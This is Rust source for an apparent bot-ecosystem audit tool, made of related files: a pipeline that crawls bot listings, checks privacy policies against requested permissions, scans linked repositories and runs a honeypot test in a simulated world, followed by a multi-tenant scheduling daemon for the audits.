                    has_source: false,
                    performs_checks: None,
                    scan: None,
                },
                LinkOutcome::NoPublicRepos => CodeFinding {
                    resolution: LinkResolution::NoPublicRepos,
                    language: None,
                    has_source: false,
                    performs_checks: None,
                    scan: None,
                },
                LinkOutcome::Invalid => CodeFinding {
                    resolution: LinkResolution::Invalid,
                    language: None,
                    has_source: false,
                    performs_checks: None,
                    scan: None,
                },
            });

        AuditedBot {
            crawled: bot,
            traceability,
            code,
        }
    }

    pub(crate) fn analysis_client(&self, net: &Network) -> HttpClient {
        // Stages 2 & 3 use a plain client (no listing-site defenses on
        // GitHub in this world; politeness still applies).
        HttpClient::new(
            net.clone(),
            ClientConfig {
                politeness: None,
                ..ClientConfig::crawler("code-analysis/1.0")
            },
        )
    }

    /// Run data collection + traceability + code analysis against a
    /// mounted world.
    pub fn run_static_stages(&self, net: &Network) -> (Vec<AuditedBot>, CrawlStats) {
        let (bots, stats, _) = self.run_static_stages_detailed(net);
        (bots, stats)
    }

    /// [`Self::run_static_stages`], also reporting memoization counters.
    pub fn run_static_stages_detailed(
        &self,
        net: &Network,
    ) -> (Vec<AuditedBot>, CrawlStats, StageStats) {
        // Stage 1: data collection.
        let (crawled, stats) = crawl_listing(net, &self.config.crawl);

        // Kernel counters are cumulative (per ontology instance / process-
        // wide for the scanner), so snapshot before and report deltas.
        let policy_before = self.config.ontology.kernel_stats();
        let code_before = codeanal::scanner_kernel_stats();

        let links = LinkCache::new();
        let memo = AnalysisMemo::new();
        let workers = resolve_workers(self.config.workers);

        let bots = if workers <= 1 || crawled.len() <= 1 {
            let mut gh_client = self.analysis_client(net);
            crawled
                .into_iter()
                .map(|bot| self.audit_one(bot, &mut gh_client, &links, &memo))
                .collect()
        } else {
            // Claim-counter pool: each worker owns a client and repeatedly
            // claims the next unclaimed bot, so fast bots (no GitHub link,
            // no policy) don't leave a statically-assigned worker idle
            // while another grinds through repo downloads.
            let jobs: Vec<Mutex<Option<CrawledBot>>> =
                crawled.into_iter().map(|b| Mutex::new(Some(b))).collect();
            let slots: Vec<Mutex<Option<AuditedBot>>> =
                (0..jobs.len()).map(|_| Mutex::new(None)).collect();
            let next = AtomicUsize::new(0);
            crossbeam::thread::scope(|s| {
                for _ in 0..workers.min(jobs.len()) {
                    let (jobs, slots, next) = (&jobs, &slots, &next);
                    let (links, memo) = (&links, &memo);
                    s.spawn(move |_| {
                        let mut gh_client = self.analysis_client(net);
                        loop {
                            let idx = next.fetch_add(1, Ordering::Relaxed);
                            if idx >= jobs.len() {
                                break;
                            }
                            let bot = jobs[idx].lock().take().expect("job claimed once");
                            let audited = self.audit_one(bot, &mut gh_client, links, memo);
                            *slots[idx].lock() = Some(audited);
                        }
                    });
                }
            })
            .expect("analysis scope");
            slots
                .into_iter()
                .map(|slot| slot.into_inner().expect("every slot filled"))
                .collect()
        };

        let policy_after = self.config.ontology.kernel_stats();
        let code_after = codeanal::scanner_kernel_stats();
        let stage_stats = StageStats {
            link_cache_hits: links.hits(),
            link_cache_misses: links.misses(),
            policy_memo_hits: memo.hits(),
            policy_memo_misses: memo.misses(),
            policy_automaton_states: policy_after.automaton_states,
            policy_scan_passes: policy_after.scans - policy_before.scans,
            policy_bytes_scanned: policy_after.bytes_scanned - policy_before.bytes_scanned,
            code_automaton_states: code_after.automaton_states,
            code_scan_passes: code_after.scans - code_before.scans,
            code_bytes_scanned: code_after.bytes_scanned - code_before.bytes_scanned,
            ..StageStats::default()
        };
        (bots, stats, stage_stats)
    }

    /// Run the dynamic stage against the ecosystem's most-voted testable
    /// bots (§4.2 sampled the most-voted population because the rest were
    /// "mainly offline or not being used").
    pub fn run_honeypot(&self, eco: &Ecosystem) -> CampaignReport {
        let mut campaign = Campaign::new(
            eco.platform.clone(),
            eco.net.clone(),
            self.config.honeypot.clone(),
        );
        let bots: Vec<BotUnderTest> = eco
            .most_voted_testable(self.config.honeypot_sample)
            .into_iter()
            .map(|(truth, invite, bot_user, behavior)| BotUnderTest {
                name: truth.name,
                client_id: truth.client_id,
                bot_user,
                invite,
                behavior,
            })
            .collect();
        campaign.run(bots)
    }

    /// Run everything.
    pub fn run_full(&self, eco: &Ecosystem) -> AuditReport {
        let (bots, crawl_stats) = self.run_static_stages(&eco.net);
        let honeypot = Some(self.run_honeypot(eco));
        AuditReport {
            bots,
            crawl_stats,
            honeypot,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use synth::{build_ecosystem, EcosystemConfig};

    fn small_world() -> Ecosystem {
        build_ecosystem(&EcosystemConfig::test_scale(120, 77))
    }

    #[test]
    fn static_stages_cover_every_listing() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig::default());
        let (bots, stats) = pipeline.run_static_stages(&eco.net);
        assert_eq!(bots.len(), 120);
        assert_eq!(stats.bots, 120);
        // Some bots have code findings, some don't — matching the planted
        // github fraction.
        let with_links = bots.iter().filter(|b| b.code.is_some()).count();
        let planted = eco
            .truth
            .bots
            .iter()
            .filter(|b| b.github_class != synth::GithubClass::None)
            .count();
        assert_eq!(with_links, planted);
    }

    #[test]
    fn valid_fraction_recovered_through_the_noise() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig::default());
        let (bots, _) = pipeline.run_static_stages(&eco.net);
        let measured_valid = bots
            .iter()
            .filter(|b| b.crawled.invite_status.is_valid())
            .count();
        let planted_valid = eco.truth.valid_bots().count();
        assert_eq!(measured_valid, planted_valid);
    }

    #[test]
    fn honeypot_stage_detects_planted_snooper() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig {
            honeypot_sample: 25,
            ..AuditConfig::default()
        });
        let report = pipeline.run_honeypot(&eco);
        assert_eq!(report.bots_tested, 25);
        // Melonian ranks in the top 25 by construction (planted among the
        // most-voted).
        assert_eq!(report.detections.len(), 1);
        assert_eq!(report.detections[0].bot_name, "Melonian");
    }

    #[test]
    fn full_run_produces_complete_report() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig {
            honeypot_sample: 10,
            ..AuditConfig::default()
        });
        let report = pipeline.run_full(&eco);
        assert_eq!(report.bots.len(), 120);
        assert!(report.honeypot.is_some());
        assert!(report.crawl_stats.pages > 0);
    }

    #[test]
    fn parallel_static_stages_match_serial() {
        let shape = |workers: usize| {
            let eco = small_world();
            let pipeline = AuditPipeline::new(AuditConfig {
                workers,
                ..AuditConfig::default()
            });
            let (bots, _, stages) = pipeline.run_static_stages_detailed(&eco.net);
            let rows: Vec<_> = bots
                .iter()
                .map(|b| {
                    (
                        b.crawled.scraped.id,
                        b.crawled.invite_status.clone(),
                        b.traceability.clone(),
                        b.code
                            .as_ref()
                            .map(|c| (c.resolution, c.language.clone(), c.performs_checks)),
                    )
                })
                .collect();
            (rows, stages)
        };
        let (serial_rows, serial_stages) = shape(1);
        for workers in [2, 4] {
            let (rows, stages) = shape(workers);
            assert_eq!(rows, serial_rows, "workers={workers}");
            // Racing workers may both miss the same cold key, so parallel
            // runs can trade a few hits for misses — never lose lookups.
            assert_eq!(
                stages.link_cache_hits + stages.link_cache_misses,
                serial_stages.link_cache_hits + serial_stages.link_cache_misses,
                "workers={workers}"
            );
            assert_eq!(
                stages.policy_memo_hits + stages.policy_memo_misses,
                serial_stages.policy_memo_hits + serial_stages.policy_memo_misses,
                "workers={workers}"
            );
        }
        assert!(serial_stages.link_cache_misses > 0);
        assert!(serial_stages.policy_memo_misses > 0);
        // Kernel counters: the keyword automaton ran, the fused scanner fed
        // stripped bytes through the needle automaton, and both automata
        // were actually compiled.
        assert!(serial_stages.policy_automaton_states > 0);
        assert!(serial_stages.policy_scan_passes > 0);
        assert!(serial_stages.policy_bytes_scanned > 0);
        assert!(serial_stages.code_automaton_states > 0);
        assert!(serial_stages.code_scan_passes > 0);
        assert!(serial_stages.code_bytes_scanned > 0);
    }

    #[test]
    fn requested_permission_names_only_for_valid() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig::default());
        let (bots, _) = pipeline.run_static_stages(&eco.net);
        for bot in &bots {
            let names = bot.requested_permission_names();
            if bot.crawled.invite_status.is_valid() {
                assert!(!names.is_empty());
            } else {
                assert!(names.is_empty());
            }
        }
    }
}
