//! Stage orchestration.

use codeanal::github::{resolve_github_link, LinkOutcome};
use codeanal::scanner::{scan_repository, ScanReport};
use codeanal::Language;
use crawler::crawl::{crawl_listing, CrawlConfig, CrawlStats, CrawledBot};
use crawler::invite::InviteStatus;
use honeypot::campaign::{BotUnderTest, Campaign, CampaignConfig, CampaignReport};
use netsim::client::{ClientConfig, HttpClient};
use netsim::Network;
use policy::{analyze, KeywordOntology, TraceabilityReport};
use serde::{Deserialize, Serialize};
use synth::Ecosystem;

/// How a scraped GitHub link resolved.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum LinkResolution {
    /// A repository whose contents were downloaded.
    ValidRepo,
    /// A profile page with repositories.
    UserProfile,
    /// A profile with no public repos.
    NoPublicRepos,
    /// Dead or malformed.
    Invalid,
}

/// Code-analysis output for one bot.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct CodeFinding {
    /// Link resolution class.
    pub resolution: LinkResolution,
    /// The repository's main language (valid repos only).
    pub language: Option<Language>,
    /// Whether the repo contains any recognizable source code.
    pub has_source: bool,
    /// The scanner's verdict (valid repos only).
    pub performs_checks: Option<bool>,
    /// Raw scan report.
    pub scan: Option<ScanReport>,
}

/// One bot after the static stages.
#[derive(Debug, Clone)]
pub struct AuditedBot {
    /// Crawl output (attributes + invite status + policy document).
    pub crawled: CrawledBot,
    /// Traceability analyzer output.
    pub traceability: TraceabilityReport,
    /// Code analysis output (None when no GitHub link was listed).
    pub code: Option<CodeFinding>,
}

impl AuditedBot {
    /// The permission names the install page requests (valid invites only).
    pub fn requested_permission_names(&self) -> Vec<String> {
        match &self.crawled.invite_status {
            InviteStatus::Valid { permissions, .. } => {
                permissions.names().iter().map(|s| s.to_string()).collect()
            }
            _ => Vec::new(),
        }
    }
}

/// Pipeline configuration.
#[derive(Debug, Clone)]
pub struct AuditConfig {
    /// Data-collection parameters.
    pub crawl: CrawlConfig,
    /// Keyword ontology for the traceability stage.
    pub ontology: KeywordOntology,
    /// Honeypot parameters.
    pub honeypot: CampaignConfig,
    /// How many most-voted bots the honeypot samples (paper: 500).
    pub honeypot_sample: usize,
}

impl Default for AuditConfig {
    fn default() -> Self {
        AuditConfig {
            crawl: CrawlConfig::default(),
            ontology: KeywordOntology::standard(),
            honeypot: CampaignConfig::default(),
            honeypot_sample: 50,
        }
    }
}

/// Full pipeline output.
pub struct AuditReport {
    /// Every bot that made it through data collection.
    pub bots: Vec<AuditedBot>,
    /// Crawl statistics.
    pub crawl_stats: CrawlStats,
    /// Honeypot campaign report (when the stage ran).
    pub honeypot: Option<CampaignReport>,
}

/// The pipeline.
pub struct AuditPipeline {
    config: AuditConfig,
}

impl AuditPipeline {
    /// A pipeline with the given configuration.
    pub fn new(config: AuditConfig) -> AuditPipeline {
        AuditPipeline { config }
    }

    /// Run data collection + traceability + code analysis against a
    /// mounted world.
    pub fn run_static_stages(&self, net: &Network) -> (Vec<AuditedBot>, CrawlStats) {
        // Stage 1: data collection.
        let (crawled, stats) = crawl_listing(net, &self.config.crawl);

        // Stage 2 & 3 share a plain client (no listing-site defenses on
        // GitHub in this world; politeness still applies).
        let mut gh_client =
            HttpClient::new(net.clone(), ClientConfig { politeness: None, ..ClientConfig::crawler("code-analysis/1.0") });

        let mut bots = Vec::with_capacity(crawled.len());
        for bot in crawled {
            // Stage 2: traceability — compare the policy (if any) against
            // the permissions the install page requests.
            let requested: Vec<String> = match &bot.invite_status {
                InviteStatus::Valid { permissions, .. } => {
                    permissions.names().iter().map(|s| s.to_string()).collect()
                }
                _ => Vec::new(),
            };
            let traceability = analyze(bot.policy.as_ref(), &requested, &self.config.ontology);

            // Stage 3: code analysis.
            let code = bot.scraped.github.as_deref().map(|link| {
                match resolve_github_link(&mut gh_client, link) {
                    LinkOutcome::ValidRepo(repo) => {
                        let scan = scan_repository(&repo);
                        CodeFinding {
                            resolution: LinkResolution::ValidRepo,
                            language: repo.main_language(),
                            has_source: repo.has_source_code(),
                            performs_checks: Some(scan.performs_checks()),
                            scan: Some(scan),
                        }
                    }
                    LinkOutcome::UserProfile => CodeFinding {
                        resolution: LinkResolution::UserProfile,
                        language: None,
                        has_source: false,
                        performs_checks: None,
                        scan: None,
                    },
                    LinkOutcome::NoPublicRepos => CodeFinding {
                        resolution: LinkResolution::NoPublicRepos,
                        language: None,
                        has_source: false,
                        performs_checks: None,
                        scan: None,
                    },
                    LinkOutcome::Invalid => CodeFinding {
                        resolution: LinkResolution::Invalid,
                        language: None,
                        has_source: false,
                        performs_checks: None,
                        scan: None,
                    },
                }
            });

            bots.push(AuditedBot { crawled: bot, traceability, code });
        }
        (bots, stats)
    }

    /// Run the dynamic stage against the ecosystem's most-voted testable
    /// bots (§4.2 sampled the most-voted population because the rest were
    /// "mainly offline or not being used").
    pub fn run_honeypot(&self, eco: &Ecosystem) -> CampaignReport {
        let mut campaign =
            Campaign::new(eco.platform.clone(), eco.net.clone(), self.config.honeypot.clone());
        let bots: Vec<BotUnderTest> = eco
            .most_voted_testable(self.config.honeypot_sample)
            .into_iter()
            .map(|(truth, invite, bot_user, behavior)| BotUnderTest {
                name: truth.name,
                client_id: truth.client_id,
                bot_user,
                invite,
                behavior,
            })
            .collect();
        campaign.run(bots)
    }

    /// Run everything.
    pub fn run_full(&self, eco: &Ecosystem) -> AuditReport {
        let (bots, crawl_stats) = self.run_static_stages(&eco.net);
        let honeypot = Some(self.run_honeypot(eco));
        AuditReport { bots, crawl_stats, honeypot }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use synth::{build_ecosystem, EcosystemConfig};

    fn small_world() -> Ecosystem {
        build_ecosystem(&EcosystemConfig::test_scale(120, 77))
    }

    #[test]
    fn static_stages_cover_every_listing() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig::default());
        let (bots, stats) = pipeline.run_static_stages(&eco.net);
        assert_eq!(bots.len(), 120);
        assert_eq!(stats.bots, 120);
        // Some bots have code findings, some don't — matching the planted
        // github fraction.
        let with_links = bots.iter().filter(|b| b.code.is_some()).count();
        let planted =
            eco.truth.bots.iter().filter(|b| b.github_class != synth::GithubClass::None).count();
        assert_eq!(with_links, planted);
    }

    #[test]
    fn valid_fraction_recovered_through_the_noise() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig::default());
        let (bots, _) = pipeline.run_static_stages(&eco.net);
        let measured_valid =
            bots.iter().filter(|b| b.crawled.invite_status.is_valid()).count();
        let planted_valid = eco.truth.valid_bots().count();
        assert_eq!(measured_valid, planted_valid);
    }

    #[test]
    fn honeypot_stage_detects_planted_snooper() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig {
            honeypot_sample: 25,
            ..AuditConfig::default()
        });
        let report = pipeline.run_honeypot(&eco);
        assert_eq!(report.bots_tested, 25);
        // Melonian ranks in the top 25 by construction (planted among the
        // most-voted).
        assert_eq!(report.detections.len(), 1);
        assert_eq!(report.detections[0].bot_name, "Melonian");
    }

    #[test]
    fn full_run_produces_complete_report() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig {
            honeypot_sample: 10,
            ..AuditConfig::default()
        });
        let report = pipeline.run_full(&eco);
        assert_eq!(report.bots.len(), 120);
        assert!(report.honeypot.is_some());
        assert!(report.crawl_stats.pages > 0);
    }

    #[test]
    fn requested_permission_names_only_for_valid() {
        let eco = small_world();
        let pipeline = AuditPipeline::new(AuditConfig::default());
        let (bots, _) = pipeline.run_static_stages(&eco.net);
        for bot in &bots {
            let names = bot.requested_permission_names();
            if bot.crawled.invite_status.is_valid() {
                assert!(!names.is_empty());
            } else {
                assert!(names.is_empty());
            }
        }
    }
}
