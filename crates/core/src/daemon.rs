//! The always-on fleet daemon: the audit service as a long-lived loop.
//!
//! [`FleetService`](crate::FleetService) runs the fleet the way the paper
//! ran its crawl — submit a batch, drain it, read the reports. A real
//! audit service never drains: tenants submit forever, an interactive
//! request must not sit behind a 300-bot backfill, and a job whose
//! deadline has passed is worthless to run. [`FleetDaemon`] is the
//! redesigned service API for that shape:
//!
//! * [`FleetDaemon::submit`] validates the spec up front (path-shaped
//!   tenant ids, zero weights, deadlines already in the past all fail
//!   fast with a `config`-kind error) and returns a typed [`JobHandle`];
//! * [`FleetDaemon::tick`] runs one scheduler round at the current
//!   virtual time: overdue queued jobs expire with a typed
//!   [`AuditError::Expired`] outcome, deficit-round-robin grants each
//!   backlogged tenant `quantum × weight` dispatch slots, and a running
//!   `Batch` audit cooperatively parks at a journal-frame boundary when
//!   its slice budget runs out — resuming byte-identically on a later
//!   tick via the crash-safe journal replay path;
//! * [`FleetDaemon::run_until`] drives tick-then-advance on the virtual
//!   clock until a target time — the daemon loop in one call;
//! * [`FleetDaemon::poll_outcomes`] / [`FleetDaemon::resolve`] deliver
//!   settled [`JobOutcome`]s, in settle order or by handle;
//! * [`FleetDaemon::shutdown`] ends the service with a typed
//!   [`ShutdownMode`]: `Drain` finishes everything queued (including
//!   parked audits), `Abandon` returns what was still waiting.
//!
//! Everything observable — outcomes, deltas, expiry decisions, the
//! `sched.tick` span tree and `sched.*` counters — is a pure function of
//! the submission sequence and clock advances, byte-identical at any
//! worker count. The `daemon_determinism` integration suite pins this
//! under adversarial load.

use crate::delta::DeltaReport;
use crate::error::AuditError;
use crate::report::CanonicalReport;
use crate::resume::StoreConfig;
use crate::service::{AuditJob, JobOutcome};
use netsim::{SimDuration, VirtualClock};
use obs::{Clock, Obs};
use oplog::{CompactionOutcome, EpochChain, EpochRecord, PlatformDrift, TrendQuery};
use sched::{
    CompletedJob, Daemon, DaemonConfig, ExecCtx, JobEvent, JobId, JobSpec, StepResult, TenantRate,
};
use std::collections::{BTreeMap, BTreeSet};
use std::io;
use std::sync::{Arc, Mutex};
use store::{
    ArtifactCache, Backend, ContentHash, MemBackend, ScopedBackend, StoreStats, PACK_FILE,
};

/// Knobs for the always-on daemon. The scheduler trio
/// (`queue_capacity` / `workers` / `tenant_rate`) matches
/// [`FleetConfig`](crate::FleetConfig); the rest configure the loop
/// itself.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FleetDaemonConfig {
    /// Maximum jobs queued awaiting dispatch.
    pub queue_capacity: usize,
    /// Worker threads multiplexed across in-flight audits. Outcomes are
    /// byte-identical at any value.
    pub workers: usize,
    /// Optional per-tenant submission rate limit on the virtual clock.
    pub tenant_rate: Option<TenantRate>,
    /// Deficit-round-robin quantum: each tick every backlogged tenant
    /// earns `quantum × weight` dispatch slots, which bounds the service
    /// gap between equal-weight tenants. `0` disables fairness bounding
    /// (every tick drains everything, the legacy behavior).
    pub quantum: u32,
    /// Cooperative preemption slice for `Batch`-lane audits, in journal
    /// frames. A batch audit that appends this many fresh frames in one
    /// tick parks at the frame boundary and resumes on a later tick via
    /// journal replay; `None` disables slicing.
    pub batch_slice_frames: Option<u64>,
    /// Virtual milliseconds [`FleetDaemon::run_until`] advances the clock
    /// between ticks.
    pub tick_ms: u64,
}

impl Default for FleetDaemonConfig {
    fn default() -> Self {
        FleetDaemonConfig {
            queue_capacity: 64,
            workers: 1,
            tenant_rate: None,
            quantum: 1,
            batch_slice_frames: Some(8),
            tick_ms: 10,
        }
    }
}

/// Typed receipt for a submitted job: proof the spec validated and a key
/// for claiming the job's [`JobOutcome`] via [`FleetDaemon::resolve`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct JobHandle {
    id: JobId,
}

impl JobHandle {
    /// The scheduler id this handle resolves.
    pub fn id(self) -> JobId {
        self.id
    }
}

impl std::fmt::Display for JobHandle {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        self.id.fmt(f)
    }
}

/// How [`FleetDaemon::shutdown`] disposes of work still queued.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ShutdownMode {
    /// Finish everything: run every queued job (parked audits resume
    /// first) and deliver their outcomes before stopping.
    Drain,
    /// Stop now: queued jobs are returned un-run as
    /// [`ShutdownReport::abandoned`].
    Abandon,
}

/// A queued audit [`ShutdownMode::Abandon`] returned without running.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AbandonedAudit {
    /// Scheduler id the job held while queued.
    pub id: JobId,
    /// Owning tenant.
    pub tenant: String,
    /// Drift epoch the audit would have observed.
    pub epoch: u32,
}

/// What [`FleetDaemon::shutdown`] hands back.
pub struct ShutdownReport {
    /// Every settled outcome not yet claimed via
    /// [`FleetDaemon::poll_outcomes`] / [`FleetDaemon::resolve`],
    /// including (under [`ShutdownMode::Drain`]) the final drain's.
    pub outcomes: Vec<JobOutcome>,
    /// Jobs still queued at shutdown, un-run. Empty under
    /// [`ShutdownMode::Drain`].
    pub abandoned: Vec<AbandonedAudit>,
}

/// Per-tenant service state: the scoped store every audit of the tenant
/// runs against, plus the last successful report (and its epoch) for
/// delta computation. On first touch the baseline is restored from the
/// tenant's persisted epoch chain, so a daemon restarted over a
/// [`store::DiskBackend`] resumes delta chaining where it left off.
pub(crate) struct TenantState {
    pub(crate) backend: Arc<dyn Backend>,
    pub(crate) last_report: Option<CanonicalReport>,
    pub(crate) last_epoch: Option<u32>,
}

/// The epochs a tenant has used, split by lifecycle. Seeded from the
/// tenant's persisted epoch chain on first touch, so duplicate rejection
/// survives daemon restarts.
#[derive(Default)]
struct EpochLedger {
    /// Epochs submitted through the strict path and not yet settled.
    inflight: BTreeSet<u32>,
    /// Epochs with a successfully settled audit (persisted or this run's).
    committed: BTreeSet<u32>,
}

/// What the executor hands back per completed dispatch.
type ExecOutput = (
    u32,
    platform::PlatformKind,
    Result<(CanonicalReport, StoreStats, Vec<ContentHash>), AuditError>,
);

/// Always-on multi-tenant audit daemon over one shared worker pool.
///
/// The driver owns the loop: advance the virtual clock (or let
/// [`Self::run_until`] do it) and call [`Self::tick`]; collect settled
/// outcomes with [`Self::poll_outcomes`] or [`Self::resolve`]. See the
/// [module docs](self) for the full contract.
pub struct FleetDaemon {
    config: FleetDaemonConfig,
    daemon: Daemon<AuditJob>,
    clock: VirtualClock,
    obs: Obs,
    root: Arc<dyn Backend>,
    tenants: Mutex<BTreeMap<String, Arc<TenantState>>>,
    epochs: Mutex<BTreeMap<String, EpochLedger>>,
    settled: Mutex<Vec<JobOutcome>>,
}

impl FleetDaemon {
    /// A daemon journaling every tenant into a private in-memory store.
    pub fn new(config: FleetDaemonConfig) -> FleetDaemon {
        FleetDaemon::with_backend(config, Arc::new(MemBackend::new()))
    }

    /// A daemon with an explicit root backend (e.g. a
    /// [`store::DiskBackend`] to persist tenant journals and artifact
    /// packs across restarts). Each tenant's store is scoped under
    /// `<tenant>/` inside the root.
    pub fn with_backend(config: FleetDaemonConfig, root: Arc<dyn Backend>) -> FleetDaemon {
        FleetDaemon::with_obs(config, root, VirtualClock::new(), Obs::disabled())
    }

    /// Full control: supply the virtual clock and observability handle
    /// (attach a tracing recorder to capture the deterministic
    /// `sched.tick` span tree).
    pub fn with_obs(
        config: FleetDaemonConfig,
        root: Arc<dyn Backend>,
        clock: VirtualClock,
        obs: Obs,
    ) -> FleetDaemon {
        let daemon = Daemon::new(
            DaemonConfig {
                queue_capacity: config.queue_capacity,
                workers: config.workers,
                tenant_rate: config.tenant_rate,
                quantum: config.quantum,
                batch_slice_frames: config.batch_slice_frames,
            },
            Arc::new(clock.clone()),
            obs.clone(),
        );
        FleetDaemon {
            config,
            daemon,
            clock,
            obs,
            root,
            tenants: Mutex::new(BTreeMap::new()),
            epochs: Mutex::new(BTreeMap::new()),
            settled: Mutex::new(Vec::new()),
        }
    }

    /// The daemon's configuration.
    pub fn config(&self) -> &FleetDaemonConfig {
        &self.config
    }

    /// The virtual clock the daemon runs on. [`Self::run_until`] advances
    /// it; between calls the driver may advance it directly.
    pub fn clock(&self) -> &VirtualClock {
        &self.clock
    }

    /// The observability handle (`sched.*`, `store.*`, stage metrics).
    pub fn obs(&self) -> &Obs {
        &self.obs
    }

    /// Jobs currently queued (including parked audits awaiting resume).
    pub fn queued(&self) -> usize {
        self.daemon.len()
    }

    /// The deficit-round-robin fairness watermark: the maximum service
    /// gap observed so far between equal-weight backlogged tenants. The
    /// scheduler bounds this by `quantum × weight`.
    pub fn fairness_gap(&self) -> u64 {
        self.daemon.fairness_gap()
    }

    /// Submit an audit for `spec.tenant`.
    ///
    /// Fails fast — before anything is queued — with a `config`-kind
    /// error on a path-shaped tenant id, a zero weight, a deadline
    /// already behind the virtual clock, or a `(tenant, epoch)` pair the
    /// tenant has already run or has in flight (re-running an epoch would
    /// silently overwrite the tenant's delta baseline and fork its epoch
    /// chain); and with a `saturated`-kind error when the queue is full
    /// or the tenant is over its rate. All of it deterministic given the
    /// same submission sequence at the same virtual times.
    pub fn submit(&self, spec: JobSpec, job: AuditJob) -> Result<JobHandle, AuditError> {
        self.admit(spec, job, true)
    }

    /// Shared admission path. The legacy batch facade skips the strict
    /// checks — past-deadline rejection (it never expires jobs, so a
    /// stale deadline is merely an ordering hint there) and duplicate
    /// `(tenant, epoch)` rejection (its callers replay whole submission
    /// plans, deliberate duplicates included).
    pub(crate) fn admit(
        &self,
        spec: JobSpec,
        job: AuditJob,
        strict: bool,
    ) -> Result<JobHandle, AuditError> {
        validate_tenant(&spec.tenant)?;
        if spec.weight == 0 {
            return Err(sched::SpecError::ZeroWeight {
                tenant: spec.tenant,
            }
            .into());
        }
        if !strict {
            let id = self.daemon.submit(spec, job)?;
            return Ok(JobHandle { id });
        }
        if let Some(deadline) = spec.deadline_ms {
            let now = self.clock.now_millis();
            if deadline < now {
                return Err(AuditError::config(format!(
                    "deadline {deadline} ms is already {} ms in the past \
                     (virtual now: {now} ms); it would expire before dispatch",
                    now - deadline
                )));
            }
        }
        let tenant = spec.tenant.clone();
        let epoch = job.epoch();
        let mut ledgers = self.epochs.lock().expect("epoch ledger poisoned");
        let ledger = self.ledger_entry(&mut ledgers, &tenant);
        if ledger.committed.contains(&epoch) || ledger.inflight.contains(&epoch) {
            let state = if ledger.inflight.contains(&epoch) {
                "is already in flight"
            } else {
                "has already run"
            };
            return Err(AuditError::config(format!(
                "tenant {tenant:?} epoch {epoch} {state}: re-running an epoch \
                 would overwrite the tenant's delta baseline; submit the next \
                 epoch (or clone the tenant for a what-if re-audit) instead"
            )));
        }
        let id = self.daemon.submit(spec, job)?;
        self.ledger_entry(&mut ledgers, &tenant)
            .inflight
            .insert(epoch);
        Ok(JobHandle { id })
    }

    /// The ledger for `tenant`, created on first touch with `committed`
    /// seeded from the tenant's persisted epoch chain.
    fn ledger_entry<'a>(
        &self,
        ledgers: &'a mut BTreeMap<String, EpochLedger>,
        tenant: &str,
    ) -> &'a mut EpochLedger {
        if !ledgers.contains_key(tenant) {
            let scoped: Arc<dyn Backend> =
                Arc::new(ScopedBackend::new(Arc::clone(&self.root), tenant));
            let committed = match EpochChain::open(scoped) {
                Ok(chain) => chain.epochs().into_iter().collect(),
                Err(_) => BTreeSet::new(),
            };
            ledgers.insert(
                tenant.to_string(),
                EpochLedger {
                    inflight: BTreeSet::new(),
                    committed,
                },
            );
        }
        ledgers.get_mut(tenant).expect("just inserted")
    }

    /// Record `epoch` settling for `tenant`: successful runs commit, the
    /// rest merely release the in-flight reservation.
    fn settle_epoch(&self, tenant: &str, epoch: u32, committed: bool) {
        let mut ledgers = self.epochs.lock().expect("epoch ledger poisoned");
        let ledger = self.ledger_entry(&mut ledgers, tenant);
        ledger.inflight.remove(&epoch);
        if committed {
            ledger.committed.insert(epoch);
        }
    }

    /// Run one scheduler round at the current virtual time: expire
    /// overdue queued jobs, dispatch this round's deficit-round-robin
    /// selection, park any batch audit that exhausts its frame slice.
    /// Returns a handle per job that settled (completed or expired) this
    /// tick; claim the outcomes via [`Self::poll_outcomes`] or
    /// [`Self::resolve`].
    pub fn tick(&self) -> Vec<JobHandle> {
        let events = self
            .daemon
            .tick(|_id, spec, job: &mut AuditJob, ctx| self.execute(spec, job, ctx));
        self.settle(events)
    }

    /// Drive the daemon loop until the virtual clock reaches `clock_ms`:
    /// tick, advance by [`FleetDaemonConfig::tick_ms`] (capped at the
    /// target), repeat — ending with a tick at `clock_ms` itself. Returns
    /// every handle that settled along the way.
    pub fn run_until(&self, clock_ms: u64) -> Vec<JobHandle> {
        let step = self.config.tick_ms.max(1);
        let mut handles = self.tick();
        loop {
            let now = self.clock.now_millis();
            if now >= clock_ms {
                break;
            }
            self.clock
                .advance(SimDuration::from_millis(step.min(clock_ms - now)));
            handles.extend(self.tick());
        }
        handles
    }

    /// Take every settled outcome not yet claimed, in settle order
    /// (expiries of a tick before its completions, ticks in time order).
    pub fn poll_outcomes(&self) -> Vec<JobOutcome> {
        std::mem::take(&mut *self.settled.lock().expect("outcome buffer poisoned"))
    }

    /// Claim one settled outcome by handle. Returns `None` while the job
    /// is still queued, running, or parked — and after the outcome was
    /// already claimed (here or via [`Self::poll_outcomes`]).
    pub fn resolve(&self, handle: JobHandle) -> Option<JobOutcome> {
        let mut settled = self.settled.lock().expect("outcome buffer poisoned");
        let at = settled.iter().position(|o| o.id == handle.id)?;
        Some(settled.remove(at))
    }

    /// Stop the service. [`ShutdownMode::Drain`] finishes everything
    /// still queued (parked audits resume and run to completion, with no
    /// slice limit); [`ShutdownMode::Abandon`] returns queued jobs un-run.
    pub fn shutdown(self, mode: ShutdownMode) -> ShutdownReport {
        let abandoned = match mode {
            ShutdownMode::Drain => {
                self.drain_queue();
                Vec::new()
            }
            ShutdownMode::Abandon => self
                .daemon
                .abandon()
                .into_iter()
                .map(|a| AbandonedAudit {
                    id: a.id,
